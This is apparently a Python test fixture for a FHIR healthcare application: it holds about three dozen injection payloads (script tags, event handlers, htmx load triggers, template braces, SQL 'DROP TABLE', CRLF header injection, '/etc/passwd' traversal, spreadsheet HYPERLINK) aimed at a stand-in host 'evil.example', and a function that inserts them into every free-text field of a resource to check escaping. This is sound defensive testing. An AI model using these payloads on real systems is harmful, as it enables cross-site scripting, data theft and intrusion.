"""Words that attack whoever shows them, and a chart that holds them in every string that its writers control."""

import base64
from collections.abc import Iterator
from copy import deepcopy

CANARY = "zq7"
EVIL = f"https://evil.example/{CANARY}"
PAYLOADS = {
    "script": f"<script>alert('{CANARY}')</script>",
    "script from elsewhere": f"<script src={EVIL}.js></script>",
    "image": f"<img src=x onerror=alert('{CANARY}')>",
    "picture": f"<svg/onload=alert('{CANARY}')><a xlink:href='{EVIL}'>x</a></svg>",
    "double quote": f"\" autofocus onfocus=alert('{CANARY}') x=\"",
    "single quote": f"' onmouseover='alert(\"{CANARY}\")' x='",
    "backtick": f"`onload=alert({CANARY})`",
    "hx-get": f"<div hx-get='{EVIL}' hx-trigger='load' hx-target='body'>x</div>",
    "data-hx": f"<div data-hx-get='/s/{CANARY}' data-hx-trigger='load'>x</div>",
    "hx-on": f"<b hx-on::load=\"alert('{CANARY}')\" hx-vals='js:alert(1)'>x</b>",
    "base": f"<base href='{EVIL}/'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "style": f"<style>body{{background:url({EVIL})}}</style><p style='background:url({EVIL})'>",
    "stylesheet": f"<link rel=stylesheet href={EVIL}.css>",
    "javascript link": f"<a href=\"javascript:alert('{CANARY}')\">x</a> javascript:alert('{CANARY}')",
    "frame": f"<iframe srcdoc='<script>parent.{CANARY}=1</script>'></iframe><object data={EVIL}></object>",
    "form": f"</form><form action={EVIL}><input name=csrf_token><button>Book</button>",
    "button": f"</button><button formaction={EVIL} name={CANARY}>",
    "end of all": f"</title></textarea></select></option></section></main></body></html><script>{CANARY}()</script>",
    "braces": f"{{{{ 7*7 }}}}{{% for x in (1,) %}}{CANARY}{{% endfor %}}${{7*7}}#{{7*7}}<%= 7*7 %>",
    "comment": f"<!-- {CANARY} --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{CANARY}</script>]]>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror=alert('{CANARY}')>\">",
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CANARY}&gt;">',
    "entities": f"&lt;script&gt;alert('{CANARY}')&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "utf-7": f"+ADw-script+AD4-{CANARY}+ADw-/script+AD4-",
    "header": f"{CANARY}\r\nSet-Cookie: {CANARY}=1\r\n\r\n<script>alert(1)</script>",
    "formula": f'=HYPERLINK("{EVIL}","x") @SUM(1) +1 -1 {CANARY}',
    "query": f"{CANARY}'); DROP TABLE cases;-- ?q=1&said=booked#x",
    "path": f"../../../../etc/passwd%2f..%2f{CANARY}\\..\\",
    "bidi": f"\u202e{CANARY}\u2066gnp.exe\u2069\u202c",
    "zero width": f"{CANARY}\u200b\u200d\ufeff<scr\u200bipt>",
    "markdown": f"[x](javascript:{CANARY}) ![x]({EVIL}) <{EVIL}>",
    "unprintable": f"{CANARY}\x00\x07\x0b\x1b[31m\x7f\ufffe\uffff",
    "long": f"{CANARY} " + "A" * 10_000,
    "many words": f"{CANARY} <b>x</b> " * 600,
}
# Where the structure of FHIR itself stands: an attack there is a resource that cannot be read, another test's matter.
STRUCTURE = frozenset(
    "resourceType id reference status url use system type contentType language versionId lastUpdated profile code "
    "intent mode relationship unit outcome data".split()
)
DATES = (
    "date",
    "Date",
    "created",
    "start",
    "end",
    "Time",
    "Instant",
    "issued",
    "onset",
    "recorded",
    "sent",
    "authored",
)


def bent(resource: dict, payloads: Iterator[str]) -> dict:
    """
    Return the resource with an attack in every string its writer controls: names, words, numbers, codes, notes.

    payloads: the next one for each string; `repeat` for one everywhere
    """
    found = deepcopy(resource)
    _bend(found, payloads)
    if found["resourceType"] == "Patient":
        found["gender"] = next(payloads)
    return found


def _bend(node: object, payloads: Iterator[str]) -> None:
    if isinstance(node, list):
        for each in node:
            _bend(each, payloads)
    if not isinstance(node, dict):
        return
    for name, value in node.items():
        if name == "data" and str(node.get("contentType", "")).startswith("text/plain"):
            words = base64.b64decode(value).decode() + f"\n{next(payloads)}"
            node[name] = base64.b64encode(words.encode()).decode()
        elif isinstance(value, str) and _is_free(name):
            node[name] = f"{value} {next(payloads)}"
        elif isinstance(value, list) and all(isinstance(each, str) for each in value) and _is_free(name):
            node[name] = [f"{each} {next(payloads)}" for each in value]
        else:
            _bend(value, payloads)
    if isinstance(node.get("coding"), list):
        code = {"system": f"urn:x {next(payloads)}", "code": next(payloads), "display": next(payloads)}
        node["coding"].append(code)


def _is_free(name: str) -> bool:
    return name not in STRUCTURE and not name.endswith(DATES) and not name.startswith(DATES)
